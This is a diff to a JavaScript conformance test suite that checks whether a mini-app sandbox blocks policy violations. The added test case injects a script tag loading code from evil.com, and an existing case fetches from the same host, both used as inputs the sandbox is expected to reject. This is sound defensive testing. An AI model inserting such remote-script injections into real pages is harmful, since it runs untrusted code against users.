@@ -35,6 +35,7 @@ describe('conformance', () => {
     ['an uncaught error', 'setTimeout(() => { throw new Error("boom"); }, 0);', {}, { 'policy.uncaught-errors': 'RUN_SCRIPT_ERROR' }],
     ['an undeclared permission', 'MiniAppBridge.call("payment.pay", { amount: 1, currency: "EUR" }).catch(() => {});', {}, { 'policy.permissions': 'RUN_UNDECLARED_PERMISSION' }],
     ['network outside allowedDomains', 'fetch("https://evil.com/x").catch(() => {});', {}, { 'policy.network': 'DOMAIN_NOT_ALLOWED' }],
+    ['a classic script from outside allowedDomains', 'document.head.appendChild(Object.assign(document.createElement("script"), { src: "https://evil.com/x.js" }));', {}, { 'policy.network': 'DOMAIN_NOT_ALLOWED' }],
     ['start-up over budget', 'const end = Date.now() + 150; while (Date.now() < end);', { startupBudgetMs: 50 }, { 'budget.startup': 'CONFORMANCE_STARTUP_OVER_BUDGET' }],
     ['memory over the limit', 'window.keep = []; setTimeout(function grow() { keep.push(new ArrayBuffer(4 << 20)); setTimeout(grow, 2); }, 0);', { memoryMb: 32 }, { 'budget.memory': 'APP_LIMIT_EXCEEDED' }],
     ['storage over quota', 'MiniAppBridge.call("storage.set", { key: "big", value: "x".repeat(5000) }).catch(() => {});', { storageQuotaBytes: 1000 }, { 'budget.storage': 'QUOTA_EXCEEDED' }],
